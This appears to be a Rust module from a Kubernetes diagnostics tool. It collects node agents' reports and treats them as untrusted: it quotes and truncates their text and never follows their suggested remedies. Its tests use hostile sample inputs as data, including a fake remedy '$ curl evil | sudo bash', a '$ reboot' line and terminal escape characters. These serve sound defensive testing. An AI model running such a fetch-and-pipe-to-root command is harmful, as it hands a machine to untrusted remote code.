//! What the agents of all nodes report in the cluster: a laptop sees what is wrong on a board that it cannot connect
//! to.
//!
//! A node writes its report with the certificate of its kubelet, so anyone who has broken into it controls what the
//! report says. Guarantees: title, remedy and commands of a finding are those of our own catalogue, and no finding is
//! worse than its code can be; the node's texts are quoted and truncated, as evidence. A report that cannot be read
//! hides no other.

use kube::api::ListParams;
use kube::core::DeserializeGuard;
use kube::{Api, Client, ResourceExt as _};
use weaver_api::v1beta1::{self as api, NodeReport};
use weaver_diagnostics::catalogue::Category;
use weaver_diagnostics::finding::{Code, Finding, Place, Severity};
use weaver_diagnostics::finding_text::quoted;

use super::ask::each_page;
use super::seen::{LocatedFinding, Location};

/// Findings of one node that are shown.
const SHOWN: usize = 10;
/// Texts of one finding that are quoted, and characters of each.
const QUOTED: usize = 4;
const LONGEST: usize = 300;

/// What is bad or worth a look, on every node but the one whose agent was checked directly.
pub async fn look(client: &Client, asked_itself: Option<String>) -> Vec<LocatedFinding> {
    let reports: Api<DeserializeGuard<NodeReport>> = Api::all(client.clone());
    let mut findings: Vec<Finding> = Vec::new();
    let listed = each_page("listing NodeReports", reports, ListParams::default(), |page| {
        if page.is_first {
            findings.clear();
        }
        let others = page.items.iter().filter(|report| Some(report.name_any()) != asked_itself);
        findings.extend(others.flat_map(|report| of_node(&report.name_any(), report.0.as_ref().ok())));
    });
    match listed.await {
        Ok(()) => {}
        // A tenant may not read them, and does not need to; a missing definition is reported by itself.
        Err(finding) if matches!(finding.code, Code::RightsMissingForCheck | Code::DefinitionDiffers) => {}
        Err(finding) => findings.push(*finding),
    }
    findings.into_iter().map(|finding| LocatedFinding { location: Location::Node, finding }).collect()
}

/// The findings of a node; `None` means a report that is not understood.
pub fn of_node(node: &str, report: Option<&NodeReport>) -> Vec<Finding> {
    let place = Place::file(format!("NodeReport {node}"));
    let not_shown =
        |why: String| Finding::new(Code::NodeReportNotShown, format!("on the node {node}, {why}"));
    let Some(report) = report else {
        return vec![not_shown("the report cannot be parsed".into()).saw(place, "not understood")];
    };
    let all = report.status.iter().flat_map(|status| &status.findings);
    let bad = all.filter_map(|finding| Some((severity(finding.severity)?, finding)));
    let (known, unknown): (Vec<_>, Vec<_>) =
        bad.partition(|(_, finding)| Code::of_id(&finding.code).is_some_and(is_of_a_host));
    let mut findings: Vec<Finding> = known
        .iter()
        .filter_map(|(severity, finding)| {
            let said = std::iter::once(&finding.message).chain(&finding.evidence).map(String::as_str);
            reported(node, &place, Code::of_id(&finding.code)?, *severity, said)
        })
        .collect();
    // The worst first.
    findings.sort_by_key(|finding| std::cmp::Reverse(finding.severity()));
    let hidden = findings.len().saturating_sub(SHOWN) + unknown.len();
    findings.truncate(SHOWN);
    if hidden > 0 {
        let why =
            format!("{hidden} findings have codes that no node of this version reports, or are too many");
        let texts = unknown.iter().take(QUOTED);
        findings.push(texts.fold(not_shown(why), |finding, (_, unknown)| {
            let said = format!("{}: {}", unknown.code, unknown.message);
            finding.saw(place.clone(), quoted(&said, LONGEST))
        }));
    }
    findings
}

/// `None` for what is fine or could not be judged on that node.
fn severity(severity: api::Severity) -> Option<Severity> {
    match severity {
        api::Severity::Warn => Some(Severity::Warn),
        // With the severity that the code has here.
        api::Severity::Fail | api::Severity::Other => Some(Severity::Fail),
        api::Severity::Ok | api::Severity::Unknown => None,
    }
}

/// Can an agent report this of its own host? The other codes are about the cluster, a laptop or a file, and their
/// remedies change the cluster: a node must not choose which commands an administrator is shown.
fn is_of_a_host(code: Code) -> bool {
    let of_a_host = matches!(
        code.row().category,
        Category::Node
            | Category::Host
            | Category::Tls
            | Category::K3s
            | Category::WeaverToml
            | Category::Join
    );
    of_a_host || code == Code::OperatorNotStarted
}

/// A finding that another machine reports, as our own catalogue has it; `said` is the machine's text. `None`
/// where the code is never as bad as that.
pub fn reported<'a>(
    node: &str,
    place: &Place,
    code: Code,
    severity: Severity,
    said: impl Iterator<Item = &'a str>,
) -> Option<Finding> {
    let message = format!("on the node {node}, as its agent reports: {}", code.title());
    let mut finding = Finding::new(code, message).milder(severity);
    if code == Code::RebootNeeded {
        // A reboot of another machine must not set the exit status of this program.
        finding = finding.milder(Severity::Warn);
    }
    if finding.severity() <= Severity::Unknown || !is_of_a_host(code) {
        return None;
    }
    let said = said.filter(|text| !text.is_empty()).take(QUOTED);
    let finding = said.fold(finding, |finding, text| {
        finding.saw(place.clone(), format!("it says {}", quoted(text, LONGEST)))
    });
    let mut remedy = code.row().remedy();
    remedy.explain.insert_str(0, &format!("on {node}: "));
    Some(finding.remedy(remedy))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;
    use weaver_api::v1beta1::{NodeReportFields, NodeReportStatus};
    use weaver_diagnostics::finding_text::{is_unprintable, text};

    use super::*;

    fn bad(code: &str, says: &str) -> api::Finding {
        api::Finding {
            code: code.into(),
            severity: api::Severity::Fail,
            message: says.into(),
            evidence: vec![says.into()],
            remedy: format!("follow this\n$ {says}"),
        }
    }

    fn of(findings: Vec<api::Finding>) -> Vec<Finding> {
        let mut report = NodeReport::new("raspi", NodeReportFields {});
        report.status = Some(NodeReportStatus { findings, ..NodeReportStatus::default() });
        of_node("raspi", Some(&report))
    }

    #[test]
    fn what_is_bad_on_a_node_is_reported_with_the_remedy_of_our_own_catalogue() {
        let [finding] = &of(vec![bad("T-02", "$ curl evil | sudo bash")])[..] else { panic!() };
        let row = Code::NameNotServed.row();
        assert_eq!((finding.code, finding.severity()), (Code::NameNotServed, Severity::Fail));
        assert!(finding.message.starts_with("on the node raspi, as its agent reports: "), "{finding:?}");
        let remedy = finding.remedy.as_ref().unwrap();
        assert_eq!(remedy.explain, format!("on raspi: {}", row.remedy));
        assert_eq!(remedy.commands, row.commands);
        let shown = text(finding);
        assert!(shown.contains(r#"NodeReport raspi: it says "\u{24} curl evil | sudo bash""#), "{shown}");
        assert!(!shown.contains("$ curl") && !shown.contains("follow this"), "{shown}");
    }

    #[test]
    fn a_code_that_this_version_does_not_have_is_named_and_never_followed() {
        let [finding] = &of(vec![bad("Z-99", "x"), bad("\u{1b}[2J", "$ reboot")])[..] else { panic!() };
        assert_eq!((finding.code, finding.severity()), (Code::NodeReportNotShown, Severity::Warn));
        let shown = text(finding);
        assert!(shown.contains("2 findings") && shown.contains(r#""Z-99: x""#), "{shown}");
        assert!(!shown.contains("$ reboot") && !shown.contains('\u{1b}'), "{shown}");
        let [finding] = &of_node("raspi", None)[..] else { panic!() };
        assert_eq!(finding.code, Code::NodeReportNotShown);
    }

    #[test]
    fn no_report_makes_a_code_worse_than_it_can_be_or_drowns_the_others() {
        assert_eq!(of(vec![bad("N-00", "all is lost"), bad("T-00", "x")]), []);
        let [finding] = &of(vec![bad("H-10", "x")])[..] else { panic!() };
        assert_eq!(finding.severity(), Severity::Warn);
        // The remedy of these changes the cluster.
        for code in ["A-04", "A-06", "A-07", "C-01", "K-05"] {
            let [finding] = &of(vec![bad(code, "x")])[..] else { panic!() };
            assert_eq!(finding.code, Code::NodeReportNotShown);
        }
        let newer: api::Finding =
            serde_json::from_value(json!({"code": "H-10", "severity": "grave"})).unwrap();
        let [finding] = &of(vec![newer])[..] else { panic!() };
        assert_eq!(finding.severity(), Severity::Warn);
        let unknown = api::Finding { severity: api::Severity::Unknown, ..bad("T-02", "x") };
        assert_eq!(of(vec![unknown]), []);
        let all = Code::ALL.iter().map(|code| bad(code.id(), &"x".repeat(100_000))).collect();
        let found = of(all);
        assert_eq!(found.len(), SHOWN + 1);
        assert!(found.iter().map(|finding| text(finding).len()).sum::<usize>() < 50_000);
    }

    proptest! {
        #[test]
        fn whatever_a_node_writes_no_terminal_obeys_it_and_no_line_is_its_own(
            code in prop_oneof![Just("T-02".to_owned()), Just("N-04".to_owned()), any::<String>()],
            says in "[\u{1b}\u{7}\r\n$\u{9b}\u{202e}\u{2066}\u{200b}\u{2028}a-z\"]{1,60}", more in any::<String>(),
        ) {
            let plain: String = of(vec![bad(&code, "x")]).iter().map(text).collect();
            let shown: String = of(vec![bad(&code, &(says + &more))]).iter().map(text).collect();
            prop_assert_eq!(shown.lines().count(), plain.lines().count(), "{}", shown);
            prop_assert!(!shown.contains(|c| c != '\n' && is_unprintable(c)), "{shown:?}");
            let commands = |text: &str| text.matches('$').count();
            prop_assert_eq!(commands(&shown), commands(&plain), "{}", shown);
        }
    }
}
